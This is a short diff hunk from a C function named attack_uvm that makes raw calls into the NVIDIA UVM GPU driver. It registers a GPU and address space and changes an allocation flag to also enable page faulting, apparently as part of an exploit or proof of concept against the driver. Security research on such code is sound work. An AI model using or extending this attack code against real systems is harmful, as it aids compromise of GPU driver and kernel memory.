@@ -151,7 +151,7 @@ void attack_uvm (int argc, char **argv)
     memcpy (space.uuid, gid + 3, 16);
     say ("initialize", uvm_call (0x30000001, flags, 8));
     say ("register", uvm_call (37, &gpu, 36));
-    address_space[1] = 0x40; /* NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED */
+    address_space[1] = 0x48; /* NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, ENABLE_PAGE_FAULTING (nvos.h) */
     say ("space", bed_alloc (&bed, bed.device, space.space, 0x90f1, address_space));
     say ("register-space", uvm_call (25, &space, 28));
     for (unsigned i = 0; i < pieces; i++) {
